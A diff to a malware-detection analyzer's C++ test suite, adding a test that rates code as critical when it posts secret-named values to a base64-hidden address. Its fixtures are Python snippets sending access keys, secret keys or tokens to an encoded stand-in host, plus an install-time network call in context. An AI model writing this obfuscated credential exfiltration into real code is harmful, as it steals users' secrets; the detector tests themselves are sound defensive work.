@@ -502,6 +502,31 @@ TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
   ExpectFinding("H = 'Y29sbGVjdG9yLmV4YW1wbGUubmV0Ojg0NDMvdXBsb2FkL3Yy'\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);  // host:port/path
 }
 
+// What is sent to a hidden address: values named as secrets (in the call or
+// in what its arguments are assigned) make the call critical.
+TEST(Behaviour, SecretsSentToAHiddenAddress) {
+  auto sev = [](std::string_view code) {
+    auto fs = Analyze(code, Phase::kRuntime);
+    const Finding* f = Find(fs, "hidden-destination");
+    return f ? f->severity : Severity::kInfo;
+  };
+  EXPECT_EQ(sev("import base64, requests\ndef c(access_key, secret_key):\n"
+                "    data = {'ak': access_key, 'sk': secret_key}\n"
+                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
+                "json=data)\n"),
+            Severity::kCritical);
+  EXPECT_EQ(sev("import base64, requests\ndef c(t):\n"
+                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
+                "json={'token': t})\n"),
+            Severity::kCritical);
+  // Other data, or a secret-named variable that is not sent: high as before.
+  EXPECT_EQ(sev("import base64, requests\ndef c(n, secret_key):\n"
+                "    data = {'n': n}\n"
+                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
+                "json=data)\n"),
+            Severity::kHigh);
+}
+
 TEST(Behaviour, NetworkAtInstall) {
   ExpectFinding("from setuptools import setup\nimport requests\nsetup(name='x')\n"
                 "requests.get('http://x.example/?d=1')\n",
